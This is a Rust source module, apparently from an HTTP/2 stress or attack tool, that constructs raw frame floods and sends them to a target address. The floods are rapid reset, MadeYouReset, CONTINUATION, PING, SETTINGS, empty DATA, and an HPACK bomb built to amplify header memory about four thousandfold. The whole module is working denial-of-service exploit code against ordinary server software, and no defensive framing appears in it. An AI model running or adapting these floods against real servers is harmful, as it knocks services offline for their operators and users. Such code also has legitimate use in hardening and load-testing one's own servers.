//! Floods of HTTP/2 frames.

use std::net::SocketAddr;

use super::{Tally, flood};

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// What a client begins with: the preface, no settings, and that it has seen the server's.
const HELLO: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0\0\0\0\x04\x01\0\0\0\0";

/// `GET` or `POST` for `/` in the clear (RFC 7541, appendix A).
const GET: &[u8] = b"\x82\x86\x84\x01\x01x";
const POST: &[u8] = b"\x83\x86\x84\x01\x01x";

/// One kind of flood.
pub(super) struct Flood {
    pub(super) name: &'static str,
    /// What comes first on each connection.
    first: fn(&mut Vec<u8>),
    /// What is sent again and again.
    next: fn(u32, &mut Vec<u8>),
}

pub(super) const FLOODS: &[Flood] = &[
    Flood {
        name: "rapid reset",
        first: nothing,
        next: |round, out| {
            put(out, HEADERS, END_HEADERS | END_STREAM, stream(round), GET);
            put(out, RST_STREAM, 0, stream(round), &[0, 0, 0, 8]);
        },
    },
    Flood {
        name: "MadeYouReset",
        first: nothing,
        next: |round, out| {
            put(out, HEADERS, END_HEADERS, stream(round), POST);
            put(out, WINDOW_UPDATE, 0, stream(round), &[0; 4]);
        },
    },
    Flood {
        name: "CONTINUATION",
        first: |out| put(out, HEADERS, END_STREAM, 1, GET),
        next: |_, out| put(out, CONTINUATION, 0, 1, b"\x40\x01x\x01y"),
    },
    Flood { name: "PING", first: nothing, next: |_, out| put(out, PING, 0, 0, &[0; 8]) },
    Flood { name: "SETTINGS", first: nothing, next: |_, out| put(out, SETTINGS, 0, 0, &[]) },
    Flood {
        name: "empty DATA",
        first: |out| put(out, HEADERS, END_HEADERS, 1, POST),
        next: |_, out| put(out, DATA, 0, 1, &[]),
    },
    Flood {
        name: "HPACK bomb",
        // An entry that fills the table.
        first: |out| {
            let entry = [b"\x40\x01x\x7f\xc1\x1e", &[b'y'; 4032][..]].concat();
            put(out, HEADERS, END_HEADERS | END_STREAM, 1, &[GET, &entry].concat());
        },
        // Its index again and again: 4 MB in a kilobyte.
        next: |round, out| {
            let block = [GET, &[0xbe; 1000]].concat();
            put(out, HEADERS, END_HEADERS | END_STREAM, stream(round + 1), &block);
        },
    },
];

impl Flood {
    pub(super) fn run(&self, addr: SocketAddr, tally: &Tally) {
        let mut hello = HELLO.to_vec();
        (self.first)(&mut hello);
        flood(addr, &hello, self.next, tally);
    }
}

fn nothing(_: &mut Vec<u8>) {}

fn stream(round: u32) -> u32 {
    2 * round + 1
}

fn put(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let [_, len @ ..] = (payload.len() as u32).to_be_bytes();
    out.extend_from_slice(&len);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}
